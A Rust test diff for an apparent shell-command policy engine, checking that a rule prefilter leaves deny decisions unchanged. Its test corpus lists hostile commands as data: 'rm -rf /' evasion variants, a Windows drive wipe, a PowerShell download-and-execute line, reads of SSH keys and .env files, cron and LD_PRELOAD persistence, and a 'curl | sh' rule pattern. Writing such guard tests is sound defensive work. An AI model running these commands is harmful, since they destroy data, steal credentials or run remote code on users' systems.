@@ -368,3 +368,107 @@ fn restrictive_many_components_use_the_candidate_index() {
     excluded.push_str("echo 3; rm -rf /var/log/x");
     assert!(!denies(&rm, &excluded));
 }
+
+/// Commands for the prefilter equivalence check: every exec case of the upstream
+/// suite, plus evasions that only an alias or re-parse reading exposes.
+fn prefilter_corpus() -> Vec<String> {
+    let cases = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/spec/cases.jsonl");
+    let text = std::fs::read_to_string(cases).expect("cases.jsonl is readable");
+    let mut out: Vec<String> = text
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .filter_map(|c| c["params"]["command"].as_str().map(str::to_string))
+        .collect();
+    out.extend(v(&[
+        "/bin/rm -fr /",
+        "'r'm -rf /",
+        "RM -RF /",
+        "cmd /c \"RD /S /Q C:\\\\\"",
+        "powershell -c \"IEX (IWR http://x)\"",
+        "bash <<< 'rm -fr /'",
+        "busybox rm -rf /",
+        "cat ~\\.ssh\\id_rsa",
+        "echo x | sudo tee /etc/cron.d/job",
+        "git status",
+        "ls -la && cat .env",
+        "FOO=bar LD_PRELOAD=/tmp/x.so ls",
+    ]));
+    out
+}
+
+/// Every command-keyed rule of a policy file, compiled with and without a shared
+/// prefilter.
+fn prefiltered_rules(yaml: &str) -> (Vec<(CommandConditions, CommandConditions)>, Prefilter) {
+    let set = crate::policy::PolicySet::from_text("test.yaml", yaml).expect("policy loads");
+    let mut builder = PrefilterBuilder::new();
+    let mut rules = Vec::new();
+    for lp in &set.policies {
+        for rule in &lp.policy.rules {
+            let Some(w) = &rule.when else { continue };
+            let make = || {
+                CommandConditions::new(
+                    &w.command_matches,
+                    &w.command_not_matches,
+                    &w.command_contains,
+                    &w.command_env_assignments,
+                )
+            };
+            let mut filtered = make();
+            builder.register(&mut filtered);
+            rules.push((make(), filtered));
+        }
+    }
+    (rules, builder.build())
+}
+
+fn assert_prefilter_changes_no_outcome(yaml: &str) {
+    let (rules, prefilter) = prefiltered_rules(yaml);
+    for cmd in prefilter_corpus() {
+        let plain = CommandView::new(&cmd);
+        let fast = CommandView::with_prefilter(&cmd, &prefilter);
+        for (unfiltered, filtered) in &rules {
+            for restrictive in [true, false] {
+                assert_eq!(
+                    unfiltered.evaluate(&plain, restrictive),
+                    filtered.evaluate(&fast, restrictive),
+                    "{cmd:?} restrictive={restrictive} matches={:?} contains={:?}",
+                    unfiltered
+                        .matches
+                        .iter()
+                        .map(Glob::as_str)
+                        .collect::<Vec<_>>(),
+                    unfiltered.contains,
+                );
+            }
+        }
+    }
+}
+
+#[test]
+fn prefilter_changes_no_outcome_of_our_standard_policy() {
+    assert_prefilter_changes_no_outcome(crate::STANDARD_POLICY);
+}
+
+#[test]
+fn prefilter_changes_no_outcome_of_the_upstream_standard_policy() {
+    let path = concat!(
+        env!("CARGO_MANIFEST_DIR"),
+        "/../../shared/upstream-policies/standard.yaml"
+    );
+    assert_prefilter_changes_no_outcome(&std::fs::read_to_string(path).expect("readable"));
+}
+
+#[test]
+fn prefilter_skips_rules_whose_literals_are_absent() {
+    let mut builder = PrefilterBuilder::new();
+    let mut rule = cond(&["*curl *| sh*"], &[], &[], &[]);
+    assert!(builder.register(&mut rule));
+    let mut open = cond(&["*"], &[], &[], &[]);
+    assert!(!builder.register(&mut open));
+    let prefilter = builder.build();
+    let view = CommandView::with_prefilter("git status", &prefilter);
+    assert!(!view.restrictive_slots().may_match(rule.slot));
+    assert!(view.restrictive_slots().may_match(open.slot));
+    let view = CommandView::with_prefilter("CURL x | sh -", &prefilter);
+    assert!(view.restrictive_slots().may_match(rule.slot));
+}
